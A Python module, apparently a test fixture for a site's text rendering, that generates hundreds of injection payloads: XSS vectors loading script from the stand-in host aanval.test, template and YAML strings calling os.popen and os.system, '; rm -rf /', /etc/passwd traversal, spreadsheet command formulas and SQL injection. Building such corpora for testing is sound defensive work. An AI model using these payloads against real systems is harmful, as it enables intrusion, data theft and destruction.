"""What an attacker types where a site shows text: more than four hundred ways to be more than words.

Whatever runs calls `raak()` ("a hit"), and whatever leaves goes to aanval.test, so that both can be counted.
"""

from __future__ import annotations

from collections.abc import Iterator

HIT, HOST = "raak()", "aanval.test"


def families() -> dict[str, list[str]]:
    """The payloads by what they try; each stands in one family."""
    made = {
        "handlers": list(_handlers()),
        "scripts": list(_scripts()),
        "breaking out of an attribute": list(_breakouts()),
        "addresses": list(_addresses()),
        "drawings and formulas": list(_foreign_content()),
        "style": list(_style()),
        "loading": list(_loading()),
        "forms": list(_forms()),
        "Markdown": list(_markdown()),
        "JSON and JavaScript": list(_json()),
        "templates": list(_templates()),
        "Typst": list(_typst()),
        "lines and cells": list(_lines()),
        "signs": list(_signs()),
        "YAML": list(_yaml()),
        "files and shells": list(_shells()),
    }
    seen: set[str] = set()
    return {
        name: [each for each in found if each not in seen and not seen.add(each)]
        for name, found in made.items()
    }  # type: ignore[func-returns-value]


def payloads() -> list[str]:
    return [each for found in families().values() for each in found]


def spread(count: int) -> list[str]:
    """So many of them, from every family."""
    every = payloads()
    return every[:: max(1, len(every) // count)]


def _handlers() -> Iterator[str]:
    tags = (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("button", "onclick"),
        ("a href=#", "onmouseover"),
        ("p tabindex=0", "onpointerenter"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("math tabindex=0", "onfocus"),
        ("x contenteditable", "onbeforeinput"),
        ("div popover", "onbeforetoggle"),
    )
    for tag, event in tags:
        yield f"<{tag} {event}={HIT}>"
        yield f'<{tag.upper()} {event.upper()}="{HIT}">'
        yield f"<{tag.replace(' ', '/')}/{event}='{HIT}'>"
    yield f"<img src=x\n{' ' * 3}onerror\n=\n{HIT}>"
    yield f"<img/src=x/onerror={HIT}//"
    yield f"<svg onload={HIT}"
    yield "<svg onload=&#114;aak&lpar;&rpar;>"
    yield "<svg onload=\\u0072aak()>"
    yield f"<<svg onload={HIT}//<"
    yield f"<svg\u00a0onload={HIT}>"
    yield f"&lt;svg onload={HIT}&gt;"
    yield f"&#60;svg onload={HIT}&#62;"
    yield f"&amp;lt;svg onload={HIT}&amp;gt;"
    yield f"%3Csvg onload={HIT}%3E"
    yield f"\\u003csvg onload={HIT}\\u003e"
    yield f"＜svg onload={HIT}＞"
    yield f"<xss style=animation-name:x onanimationstart={HIT}>"
    yield f"<img src=x onerror=import('//{HOST}/m.js')>"


def _scripts() -> Iterator[str]:
    run = f"<script>{HIT}</script>"
    yield run
    yield run.replace("script", "SCRIPT")
    yield run.replace("<script", "<script x")
    yield run.replace("<script", "<script/x")
    yield f"<script\n>{HIT}</script\n>"
    yield f"<script src=//{HOST}/x.js></script>"
    yield f"<script src='data:,{HIT}'></script>"
    yield f"<script type=module>{HIT}</script>"
    yield f"<script>{HIT}"
    yield f"<script>{HIT}//"
    yield f"<scr<script>ipt>{HIT}</scr</script>ipt>"
    yield f"<script><!--{HIT}--></script>"
    yield f"<!--><script>{HIT}</script>-->"
    yield f"<?xml version='1.0'?>{run}"
    yield f"<![CDATA[{run}]]>"
    for closed in (
        "title",
        "textarea",
        "style",
        "script",
        "noscript",
        "template",
        "svg",
        "select",
        "pre",
        "option",
    ):
        yield f"</{closed}>{run}"
    for closed in ("-->", "--!>", "]]>", "*/", "?>", "%>"):
        yield f"{closed}{run}"


def _breakouts() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", "&#34;", "&#x27;", "%22", "\\x22", '\\"', "＂", "”", '""'):
        yield f"{quote} autofocus onfocus={HIT} x={quote}"
        yield f"{quote}><svg onload={HIT}>"
        yield f"{quote}/onmouseover={HIT}//"
    yield f" onmouseover={HIT} "
    yield f"x onerror={HIT}"
    yield f'x" style="background:url(//{HOST}/s)'
    yield f'" accesskey="x" onclick="{HIT}'
    yield f'"></a><a href="//{HOST}/'
    yield '" data-deel-link data-mail="'
    yield '" data-antwoord="plaats'
    yield '" id="inhoud" class="verborgen'


def _addresses() -> Iterator[str]:
    run = f"javascript:{HIT}"
    yield from (
        run,
        run.upper(),
        "jAvAsCrIpT:raak()",
        f" {run}",
        f"javascript :{HIT}",
        f"javascript&colon;{HIT}",
    )
    yield from (f"&#106;avascript:{HIT}", f"&#x6A;avascript:{HIT}", f"&#0000106avascript:{HIT}")
    yield from (f"java&Tab;script:{HIT}", f"java&NewLine;script:{HIT}", f"java&#10;script:{HIT}")
    yield from (
        f"java\tscript:{HIT}",
        f"java\nscript:{HIT}",
        f"\x01javascript:{HIT}",
        f"java\x00script:{HIT}",
    )
    yield from (f"%6Aavascript:{HIT}", "javascript:%72aak()", f"javascript://%0a{HIT}", f"ｊavascript:{HIT}")
    yield from (
        f"javascript:/*--></title></style>*/{HIT}",
        f"java\u200bscript:{HIT}",
        f"javascript:void({HIT})",
    )
    yield from (f"vbscript:{HIT}", f"livescript:{HIT}", f"jar:javascript:{HIT}!/", f"feed:javascript:{HIT}")
    yield f"view-source:javascript:{HIT}"
    yield from (
        f"data:text/html,<script>{HIT}</script>",
        "data:text/html;base64,PHN2ZyBvbmxvYWQ9cmFhaygpPg==",
    )
    yield from (f"DATA:text/html,<svg onload={HIT}>", f"data:image/svg+xml,<svg onload='{HIT}'/>")
    yield from (
        "file:///etc/passwd",
        "blob:https://aanval.test/x",
        "about:blank",
        "ftp://aanval.test/x",
        "ws://aanval.test",
    )
    yield from (
        f"//{HOST}/",
        f"///{HOST}/",
        f"/\\{HOST}/",
        f"\\\\{HOST}/",
        f"/\t/{HOST}/",
        f"https:{HOST}",
        f"https:/{HOST}",
    )
    yield from (
        f"https:\\\\{HOST}/",
        f"https:///{HOST}/",
        f"http:/\\{HOST}/",
        f".//{HOST}/",
        f"https://{HOST}",
    )
    yield from (f"https://stad.gent@{HOST}/", f"https://stad.gent\\@{HOST}/", f"https://stad.gent%2F@{HOST}/")
    yield from (
        f"https://{HOST}#@stad.gent/",
        "https://ѕtad.gent/",
        "https://127.0.0.1/",
        "https://localhost/",
    )
    yield from ("https://[::1]/", "https://0x7f.1/", f"https://{HOST}:0/", f'https://{HOST}/"onclick={HIT}')
    yield from (f"https://{HOST}/'onclick={HIT}", f"https://{HOST}/<svg onload={HIT}>", f"https://{HOST}/ x")
    yield from (
        f"https://{HOST}/%0d%0aSet-Cookie:a=b",
        "https://stad.gent。aanval.test/",
        f"https://{HOST}\u202e/",
    )
    yield from (f"a@{HOST}?bcc=b@{HOST}", f"a@{HOST},b@{HOST}", f"a%2Cb@{HOST}", f"a@{HOST}%0ABcc:b@{HOST}")
    yield from (
        f'"<svg onload={HIT}>"@{HOST}',
        f"a@{HOST}<svg onload={HIT}>",
        "tel:*21*09#",
        "09 210 10 10;ext=raak()",
    )
    yield from ("mailto:a@aanval.test", "sms:0900", "tel:+32900123456", "0900 12 34 56 javascript:raak()")


def _foreign_content() -> Iterator[str]:
    image = f"<img src=x onerror={HIT}>"
    yield f"<svg><script>{HIT}</script></svg>"
    yield f"<svg><script href=//{HOST}/x.js />"
    yield f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a>"
    yield f"<svg><animate onbegin={HIT} attributeName=x>"
    yield f"<svg><a><set attributeName=href to=javascript:{HIT} /></a>"
    yield f"<svg><use href=//{HOST}/x.svg#x />"
    yield f"<svg><image href=//{HOST}/x.png />"
    yield f"<svg><foreignObject><iframe srcdoc='{HIT}'>"
    yield f"<svg><style><img src='</style>{image}'>"
    yield f"<svg></p><style><a id='</style>{image}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{image}"
    yield f"<math href=javascript:{HIT}>x</math>"
    yield f"<noscript><p title='</noscript>{image}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f"<table><td></tr></table>{image}"
    yield f"<p><template>{image}</template>"
    yield f"<xmp><p title='</xmp>{image}'>"
    yield f"<plaintext>{image}"
    yield f"<listing>{image}</listing>"


def _style() -> Iterator[str]:
    url = f"url(//{HOST}/s)"
    yield f"<style>@import '//{HOST}/c';</style>"
    yield f"<style>*{{background:{url}}}</style>"
    yield f"}}*{{background:{url}}}"
    yield f"</style><style>*{{background:{url}}}"
    yield f"<p style=background:{url}>x</p>"
    yield f"<p style='behavior:{url}'>x</p>"
    yield f"<p style=width:expression({HIT})>x</p>"
    yield f"<p style=-moz-binding:{url}>x</p>"
    yield "<p style='position:fixed;inset:0;z-index:9'>Bel 0900 12 34 56</p>"
    yield f"x;background:{url}"
    yield f"/*</style><svg onload={HIT}>*/"
    yield f"<style>input[value^=a]{{background:{url}}}</style>"
    yield f"<style>@font-face{{font-family:x;src:{url}}}</style>"
    for kind in (
        "stylesheet",
        "prefetch",
        "preload",
        "dns-prefetch",
        "preconnect",
        "modulepreload",
        "icon",
        "manifest",
    ):
        yield f"<link rel={kind} href=//{HOST}/{kind}>"


def _loading() -> Iterator[str]:
    there = f"//{HOST}/"
    yield f"<img src={there}i.png>"
    yield f"<img srcset='{there}i.png 1x'>"
    yield f"<picture><source srcset={there}i.png><img></picture>"
    yield f"<video poster={there}v.png>"
    yield f"<video><source src={there}v.mp4></video>"
    yield f"<video><track default src={there}v.vtt></video>"
    yield f"<audio src={there}a.mp3 autoplay>"
    yield f"<object data={there}o></object>"
    yield f"<embed src={there}e>"
    yield f"<iframe src={there}f></iframe>"
    yield f"<iframe src=javascript:{HIT}></iframe>"
    yield f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>"
    yield f"<frameset><frame src={there}f></frameset>"
    yield f"<input type=image src={there}i>"
    yield f"<body background={there}b>"
    yield f"<table background={there}b><td background={there}b>"
    yield f"<base href={there}>"
    yield "<base target=_blank>"
    yield f"<meta http-equiv=refresh content='0;url={there}'>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>"
    yield "<meta http-equiv=Set-Cookie content='a=b'>"
    yield "<meta charset=utf-7>+ADw-svg onload+AD0-raak()+AD4-"
    yield f"<a href={there} ping={there}p>Bel ons</a>"
    yield f"<html manifest={there}m>"
    yield f"<portal src={there}p></portal>"
    yield f"<bgsound src={there}b>"
    yield f"<script type=speculationrules>{{'prefetch':[{{'urls':['{there}']}}]}}</script>"
    yield f"<svg><feImage href={there}f /></svg>"


def _forms() -> Iterator[str]:
    there = f"//{HOST}/"
    yield f"<form action={there}><input name=q><button>Zoek</button></form>"
    yield f"<form action=javascript:{HIT}><button>Zoek</button></form>"
    yield f"<button formaction=javascript:{HIT}>Zoek</button>"
    yield f"<button form=zoeker formaction={there}>Zoek</button>"
    yield f"<input type=submit formaction={there}>"
    yield f"</form><form action={there}>"
    yield f"<isindex action={there}>"
    yield "<form id=zoeker></form>"
    yield "<input name=attributes>"
    yield "<img name=body><img name=getElementById>"
    yield "<a id=settings href=cid:x>x</a>"
    yield "<output name=innerHTML>"
    yield f"<button popovertarget=x onclick={HIT}>x</button>"
    yield "<input type=password name=wachtwoord>"


def _markdown() -> Iterator[str]:
    run = f"javascript:{HIT}"
    for address in (run, run.upper(), f"&#106;avascript:{HIT}", f"java\tscript:{HIT}", f"<{run}>", f" {run}", f"%6aavascript:{HIT}",
                    f"javascript&colon;{HIT}", f"data:text/html,{HIT}", f"vbscript:{HIT}", f"//{HOST}/", f"/\\{HOST}/", f"https:{HOST}"):  # fmt: skip
        yield f"[klik]({address})"
    for address in (
        run,
        f"//{HOST}/i.png",
        f"https://{HOST}/i.png",
        f'x"onerror="{HIT}',
        f"data:image/svg+xml,<svg onload={HIT}>",
    ):
        yield f"![beeld]({address})"
    yield f'[klik](/acties/ "a" onmouseover="{HIT}")'
    yield f"[klik](/acties/ 'a\"><svg onload={HIT}>')"
    yield f'[klik](/acties/"onmouseover="{HIT})'
    yield f'![x" onerror="{HIT}](/img/icoon.svg)'
    yield f'![x](/img/icoon.svg "x\\" onerror=\\"{HIT}")'
    yield f"[klik][x]\n\n[x]: {run}"
    yield f'[klik][x]\n\n[x]: /acties/ "a\\" onmouseover=\\"{HIT}"'
    yield f"<{run}>"
    yield f'<https://{HOST}/"onmouseover="{HIT}>'
    yield f'<a@{HOST}"onmouseover={HIT}>'
    yield f'[klik](/acties/){{: onclick="{HIT}" }}'
    yield f"[klik](/acties/){{: href={run} }}"
    yield f"[klik](/acties/){{: style='background:url(//{HOST}/)' target=_blank }}"
    yield f"## Kop {{: onclick={HIT} }}"
    yield f'alinea\n{{: onmouseover="{HIT}" style=position:fixed }}'
    yield f'``` {{: onclick="{HIT}" }}\ncode\n```'
    yield f'```html" onload="{HIT}\ncode\n```'
    yield f"`<svg onload={HIT}>`"
    yield f"    <svg onload={HIT}>"
    yield f"<div markdown=1>\n\n<svg onload={HIT}>\n\n</div>"
    yield f"**<svg onload={HIT}>**"
    yield f"[<svg onload={HIT}>](/acties/)"
    yield f"*[x]: <svg onload={HIT}>"
    yield f"[^1]\n\n[^1]: <svg onload={HIT}>"
    yield f"woord\n: <svg onload={HIT}>"
    yield f"&lt;svg onload={HIT}&gt; &#60;svg onload={HIT}&#62;"
    yield f"\\<svg onload={HIT}>"
    yield "\u0002wzxhzdk:0\u0003"
    yield "wzxhzdk:0 klzzwxh:0"
    yield f'[klik](/acties/ "{"a" * 30}\u202e")'
    yield "&#8238;tekst &rlm;tekst &#x200b;tekst &ZeroWidthSpace;"
    yield "# Kop {: id=inhoud class=verborgen }"


def _json() -> Iterator[str]:
    yield f"</script><svg onload={HIT}>"
    yield f"</ScRiPt ><svg onload={HIT}>"
    yield "<!--<script>"
    yield f"<!--<script></script><svg onload={HIT}>"
    yield f"\\u003c/script>\\u003csvg onload={HIT}>"
    yield f'","x":"{HIT}'
    yield f'"}}];{HIT};[{{"'
    yield f'\\"-{HIT}-\\"'
    yield f"'-{HIT}-'"
    yield f'"-{HIT}-"'
    yield f"`-{HIT}-`"
    yield f"${{{HIT}}}"
    yield f"';{HIT};//"
    yield f"\\';{HIT};//"
    yield f"*/{HIT}/*"
    yield "\u2028raak()\u2028"
    yield "\u2029raak()\u2029"
    yield "__proto__"
    yield "constructor"
    yield "hasOwnProperty"
    yield '{"toString":1}'
    yield "NaN"
    yield "\\"
    yield "\\\\"


def _templates() -> Iterator[str]:
    yield "{{7*7}}"
    yield "{{ settings.__class__.__mro__ }}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield '{% include "layout.html" %}'
    yield "{% raw %}{{7*7}}{% endraw %}"
    yield "{# weg #}"
    yield "{{ page.title | safe }}"
    yield "{{constructor.constructor('raak()')()}}"
    yield "#{7*7}"
    yield "${7*7}"
    yield "<%= 7*7 %>"
    yield "*{7*7}"
    yield "{0}"
    yield "{settings.naam.__class__}"
    yield "%s%s%n"
    yield "%(naam)s"
    yield "$naam"
    yield "\uffff\ufffe"
    yield "[TOC]"


def _typst() -> Iterator[str]:
    yield '#read("/etc/passwd")'
    yield ']#read("/etc/passwd")['
    yield '"+read("/etc/passwd")+"'
    yield '#import "/etc/passwd": *'
    yield '#include "delen.typ"'
    yield '#image("/etc/passwd")'
    yield '#eval("1+1")'
    yield '#plugin("x")'
    yield '#pdf.embed("/etc/passwd")'
    yield '#link("javascript:raak()")[klik]'
    yield f'#link("https://{HOST}/")[klik]'
    yield "#sys.inputs"
    yield '#panic("raak")'
    yield "#{while true {}}"
    yield "#set page(fill: black)"
    yield "#let x = 1"
    yield "= Kop"
    yield "$ x^2 $"
    yield "*vet* _schuin_ `code`"
    yield "@verwijzing <label>"
    yield "a \\ b ~ c -- d"
    yield "// weg"
    yield "/* weg"
    yield "]}])"


def _lines() -> Iterator[str]:
    yield "x\r\nBEGIN:VEVENT\r\nSUMMARY:raak\r\nEND:VEVENT"
    yield "x\nEND:VCALENDAR\nBEGIN:VCALENDAR"
    yield f"x\nATTENDEE:MAILTO:a@{HOST}"
    yield f"x\nATTACH:https://{HOST}/"
    yield f"x;VALUE=URI:https://{HOST}/"
    yield "x\\nBEGIN:VALARM\\nACTION:AUDIO"
    yield "a,b;c:d\\e"
    yield "x\n\n- id: erbij\n  naam: raak"
    yield "x\n---\ntitel: raak"
    yield "x\nContent-Security-Policy: default-src *"
    yield "x\r\nSet-Cookie: a=b"
    yield "x%0d%0aSet-Cookie:a=b"
    yield "x\n/*\n  X-Raak: ja"
    yield "=1+1"
    yield "+1+1"
    yield "-1+1"
    yield "@SUM(1+1)"
    yield f'=HYPERLINK("https://{HOST}/","klik")'
    yield f'=IMPORTXML("https://{HOST}/","//a")'
    yield "=cmd|' /C calc'!A0"
    yield "\t=1+1"
    yield "\r=1+1"
    yield " =1+1"
    yield '"=1+1'
    yield "'=1+1"
    yield "＝1+1"
    yield "x\u0085y"
    yield "x\vy\fz"
    yield f"&bcc=b@{HOST}&body=raak"
    yield f"?bcc=b@{HOST}"


def _signs() -> Iterator[str]:
    for name in ("0000", "0007", "0008", "001b", "007f", "0085", "00ad", "061c", "200b", "200e", "200f", "2028", "2029",
                 "202a", "202e", "2060", "2066", "2069", "feff", "fff9", "fffe", "ffff", "d800", "dfff"):  # fmt: skip
        yield f"voor{chr(int(name, 16))}na"
    yield "\u202egpj.exe\u202c"
    yield "\u2067tnegadoor\u2069"
    yield "tag\U000e0041\U000e007f"
    yield "\x1b[2J\x1b]0;raak\x07"
    yield "\x1b]8;;https://aanval.test\x1b\\klik\x1b]8;;\x1b\\"
    yield "e" + "\u0301" * 40
    yield "\u0410\u0430 Cyrillisch"
    yield "שלום עולם"
    yield "👩‍💻🏳️‍🌈"
    yield "ﷺ" * 10
    yield "𝗝𝗮𝘃𝗮𝘀𝗰𝗿𝗶𝗽𝘁:"
    yield "a" * 2000
    yield "a" * 2001
    yield "ß" * 60
    yield "İ" * 60
    yield "\u00a0"
    yield "''''"
    yield '""""'
    yield "<>&\"'"


def _yaml() -> Iterator[str]:
    yield "*alias"
    yield "&anker x"
    yield "!!python/object/apply:os.system ['id']"
    yield "!<tag:yaml.org,2002:python/name:os.system> x"
    yield "<<: x"
    yield "? sleutel"
    yield "naam: raak"
    yield "{naam: raak}"
    yield "[raak"
    yield "- raak"
    yield "| raak"
    yield "> raak"
    yield "%YAML 1.1"
    yield "--- raak"
    yield "... raak"
    yield "raak # weg"
    yield "'raak"
    yield '"raak'
    yield "~"
    yield "null"
    yield "yes"
    yield "0x1F"
    yield "1e999"
    yield "2026-99-99"
    yield "9" * 60
    yield "-1"


def _shells() -> Iterator[str]:
    yield "../../../etc/passwd"
    yield "..%2f..%2f..%2fetc%2fpasswd"
    yield "/etc/passwd"
    yield "C:\\Windows\\win.ini"
    yield "\\\\server\\deel"
    yield "| cat /etc/passwd"
    yield "$(id)"
    yield "`id`"
    yield "; rm -rf /"
    yield "&& id"
    yield "--help"
    yield "-o ProxyCommand=id"
    yield "x%00.html"
    yield "index.html"
    yield "../static/js/site"
    yield "' OR 1=1 --"
    yield "(|(uid=*))"
